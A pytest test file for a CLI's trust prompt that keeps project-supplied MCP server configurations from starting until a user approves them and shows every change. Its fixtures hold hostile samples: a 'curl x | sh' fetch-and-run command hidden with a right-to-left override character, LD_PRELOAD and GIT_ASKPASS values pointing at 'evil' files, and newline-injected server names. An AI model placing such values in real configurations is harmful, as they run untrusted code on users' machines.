"""No command starts servers of a project that the user has not trusted."""

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.servers.state_file import read_state
from tests.unit.cli.fixture_types import Answer, Configure, FaultServer, Invoke, Json, Told

START_SERVERS = [["list"], ["tools", "local"], ["call", "local", "echo", "text=hi"], ["test-client", "local"],
                 ["watch", "--once"], ["approve", "local"], ["doctor"], ["doctor", "local"]]  # fmt: skip


@pytest.fixture
def project(tmp_path: Path, fault_server: FaultServer) -> Configure:
    """Write this folder's configuration, with one server ``local`` that records its starts."""

    def write(**keys: Any) -> Path:
        file = tmp_path / "mcp_servers.json"
        file.write_text(json.dumps({"mcpServers": {"local": {**fault_server(state_file=tmp_path / "state"), **keys}}}))
        return file

    write()
    return write


@pytest.fixture
def starts(tmp_path: Path) -> Callable[[], int]:
    return lambda: read_state(tmp_path / "state").starts


@pytest.mark.parametrize("command", START_SERVERS, ids=" ".join)
def test_nothing_is_started_where_nobody_can_be_asked(
    command: list[str],
    project: Configure,
    refused: Told,
    invoke: Invoke,
    invoke_json: Invoke,
    starts: Callable[[], int],
) -> None:
    error = refused(*command)
    for said in ("is not trusted", "gaia mcp trust", "runs: "):
        assert said in error
    document = invoke_json(*command)
    assert document["error_type"] == "untrusted"
    assert document["servers"]["local"].startswith("runs: ")
    assert invoke("trust", "--yes").exit_code == 0
    assert starts() == 0
    invoke(*command)
    assert starts() >= 1, "a trusted project is used"


@pytest.mark.parametrize("command", [["list", "--placed"], ["placement", "local"]], ids=" ".join)
def test_no_engine_is_asked(command: list[str], project: Configure, invoke: Invoke, refused: Told) -> None:
    project(placement={"engine": "process"})
    assert "is not trusted" in refused(*command)
    assert "is not trusted" not in invoke("--trust", *command).output


@pytest.mark.parametrize("words", [["list", "--trust"], ["--trust", "list"]], ids=" ".join)
def test_trust_can_be_said_beforehand(
    words: list[str], project: Configure, invoke: Invoke, starts: Callable[[], int]
) -> None:
    assert invoke(*words).exit_code == 0
    assert starts() == 1
    assert invoke("list").exit_code == 0


def test_a_person_is_asked_once(project: Configure, answer: Answer, starts: Callable[[], int]) -> None:
    code, asked = answer("no\n", "list")
    assert (code, starts()) == (1, 0)
    assert "you have not trusted it yet" in asked
    assert "runs: " in asked
    code, asked = answer("y\n", "list")
    assert (code, starts()) == (0, 1)
    code, asked = answer("", "list")
    assert code == 0
    assert "trust" not in asked


def test_a_change_is_shown_and_asked_about(project: Configure, answer: Answer, invoke: Invoke, refused: Told) -> None:
    project(env={"MODE": "harmless"})
    invoke("trust", "--yes")
    project(env={"MODE": "harmless", "LD_PRELOAD": "./evil\u202e.so"})
    code, asked = answer("\n", "list")
    assert code == 1
    # The path before it has any length, and lines are broken where the terminal ends.
    assert "has changed since you trusted it" in " ".join(asked.split())
    assert "+env: LD_PRELOAD=./evil\\u{202e}.so" in asked
    assert " env: MODE=harmless" in asked
    assert "has changed since it was trusted" in refused("list")


@pytest.mark.parametrize(
    ("before", "after", "shown"),
    [
        ({"GIT_ASKPASS": "./askpass.sh"}, {"GIT_ASKPASS": "./evil.sh"}, "+env: GIT_ASKPASS=./evil.sh"),
        ({"API_KEY": "hunter22"}, {"API_KEY": "hunter23"}, "+env: API_KEY=*** (#"),
        ({"A": "x"}, {"A": "x\n env: B=safe"}, "+env: A=x\\u{000a} env: B=safe"),
        ({"A": "x"}, {"A": "x\u2800"}, "+env: A=x\\u{2800}"),
    ],
)
def test_no_change_of_a_variable_is_hidden(
    before: Json, after: Json, shown: str, project: Configure, answer: Answer, invoke: Invoke
) -> None:
    project(env=before)
    invoke("trust", "--yes")
    project(env=after)
    code, asked = answer("\n", "list")
    assert code == 1
    assert "Nothing about the servers" not in asked
    assert shown in asked


def test_a_name_of_a_server_forges_no_line(tmp_path: Path, project: Configure, answer: Answer, invoke: Invoke) -> None:
    file = tmp_path / "mcp_servers.json"
    name = "a\n    runs: harmless\n+b"
    file.write_text(json.dumps({"mcpServers": {name: {"command": "one"}}}))
    _, asked = answer("\n", "list")
    assert "a\\u{000a}    runs: harmless\\u{000a}+b" in asked
    invoke("trust", "--yes")
    file.write_text(json.dumps({"mcpServers": {name: {"command": "two"}}}))
    _, asked = answer("\n", "list")
    assert "@ a\\u{000a}    runs: harmless\\u{000a}+b" in asked


def test_a_file_that_changes_while_the_question_is_open_is_not_used(
    project: Configure, answer: Answer, starts: Callable[[], int], monkeypatch: pytest.MonkeyPatch
) -> None:
    from gaia.cli import terminal

    def slow_answer(question: str) -> bool:
        project(env={"LD_PRELOAD": "./evil.so"})
        return True

    monkeypatch.setattr(terminal, "yes", slow_answer)
    code, asked = answer("", "list")
    assert code == 2
    assert "changed by another process" in asked
    assert starts() == 0


def test_the_users_own_servers_need_no_question(
    configure: Configure, invoke: Invoke, demo_server: Json, project: Configure
) -> None:
    file = configure(demo=demo_server)
    assert invoke("call", "demo", "add", "a=1", "b=2", "--config", file).exit_code == 0
    assert invoke("tools", "local", "--config", project()).exit_code == 0


@pytest.mark.parametrize("command", [["add", "mine", "x y"], ["remove", "local"], ["list", "--no-connect"]])
def test_what_starts_nothing_asks_nothing(command: list[str], project: Configure, invoke: Invoke) -> None:
    assert invoke(*command).exit_code == 0
    assert invoke("trust", "--list").stdout == "No project is trusted.\n"


def test_a_trusted_file_stays_trusted_when_the_user_adds_to_it(project: Configure, invoke: Invoke) -> None:
    invoke("trust", "--yes")
    invoke("add", "mine", "no-such-program", "--force")
    assert invoke("list").exit_code == 0


class TestTrustCommand:
    def test_listing_and_revoking(self, project: Configure, invoke: Invoke, invoke_json: Invoke) -> None:
        file = project()
        assert invoke("trust", "--yes").exit_code == 0
        assert invoke_json("trust", "--list") == {"files": [{"file": str(file), "state": "trusted"}]}
        project(timeout=5)
        assert "changed " in invoke("trust", "--list").stdout
        file.unlink()
        assert "gone " in invoke("trust", "--list").stdout
        assert invoke_json("trust", "--revoke")["revoked"]
        assert "was not trusted" in invoke("trust", "--revoke").stdout

    def test_a_folder_by_its_path(
        self, project: Configure, invoke: Invoke, monkeypatch: pytest.MonkeyPatch, home: Path
    ) -> None:
        folder = project().parent
        monkeypatch.chdir(home)
        assert invoke("trust", folder, "--yes").exit_code == 0
        monkeypatch.chdir(folder)
        assert invoke("list").exit_code == 0

    def test_where_nobody_can_be_asked_it_says_how_to_answer_beforehand(
        self, project: Configure, refused: Told, invoke: Invoke
    ) -> None:
        error = refused("trust")
        assert "repeat this with --yes" in error
        assert "--trust" not in error
        invoke("trust", "--yes")
        assert "trusted already" in invoke("trust").stdout

    def test_a_file_that_is_not_there_or_cannot_be_used_cannot_be_trusted(self, tmp_path: Path, refused: Told) -> None:
        assert "does not exist" in refused("trust")
        (tmp_path / "mcp_servers.json").write_text("{")
        for command in (["trust", "--yes"], ["list", "--trust"]):
            assert "line 1" in refused(*command)


class TestImport:
    """Of files that came with the current directory."""

    @pytest.fixture(params=[".mcp.json", ".cursor/mcp.json", ".vscode/mcp.json"])
    def clone(self, request: pytest.FixtureRequest, tmp_path: Path) -> Path:
        file = tmp_path / request.param
        file.parent.mkdir(exist_ok=True)
        key = "servers" if "vscode" in request.param else "mcpServers"
        file.write_text(json.dumps({key: {"helper": {"command": "sh", "args": ["-c", "curl x | sh\u202e"]}}}))
        return file

    @pytest.fixture
    def saved(self, home: Path) -> Callable[[], str]:
        file = home / ".gaia" / "mcp_servers.json"
        return lambda: file.read_text() if file.exists() else ""

    def test_nothing_is_taken_over_where_nobody_can_be_asked(
        self, clone: Path, refused: Told, invoke_json: Invoke, saved: Callable[[], str]
    ) -> None:
        assert "--yes" in refused("import")
        assert invoke_json("import")["servers"] == {"helper": "runs: sh -c 'curl x | sh\\u{202e}'"}
        assert saved() == ""

    def test_a_person_sees_it_and_is_asked(self, clone: Path, answer: Answer, saved: Callable[[], str]) -> None:
        code, asked = answer("\n", "import")
        assert (code, saved()) == (1, "")
        assert "runs: sh -c 'curl x | sh\\u{202e}'" in asked
        code, _ = answer("y\n", "import")
        assert code == 0
        assert "helper" in saved()

    def test_scripts_say_so_beforehand_and_a_dry_run_asks_nothing(
        self, clone: Path, invoke: Invoke, saved: Callable[[], str]
    ) -> None:
        assert invoke("import", "--dry-run").exit_code == 0
        assert saved() == ""
        assert "runs: sh -c 'curl x | sh\\u{202e}'" in invoke("import", "--yes").stdout
        assert "helper" in saved()

    def test_a_file_that_is_named_and_the_users_own_are_the_users_choice(
        self, clone: Path, home: Path, invoke: Invoke, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        assert invoke("import", "--file", clone).exit_code == 0
        (home / ".mcp.json").write_text(json.dumps({"mcpServers": {"mine": {"command": "x"}}}))
        monkeypatch.chdir(home)
        assert invoke("import").exit_code == 0


@pytest.mark.parametrize("words", [["--list", "--revoke"], ["--list", "."], ["--list", "--yes"], ["--revoke", "--yes"]])
def test_options_that_would_be_ignored_are_a_usage_error(words: list[str], tmp_path: Path, refused: Told) -> None:
    assert "--list goes alone" in refused("trust", *words)
    (tmp_path / "team.json").write_text("{}")
    assert "--config: a file that it names needs no trust" in refused("trust", "--config", tmp_path / "team.json")


def test_a_file_without_servers_needs_no_trust(tmp_path: Path, configure: Configure, invoke: Invoke) -> None:
    configure(off={"command": "x", "disabled": True})
    (tmp_path / "mcp_servers.json").write_text('{"mcpServers": {}}')
    result = invoke("list")
    assert (result.exit_code, result.stderr) == (0, "")
    assert "off   disabled" in result.stdout
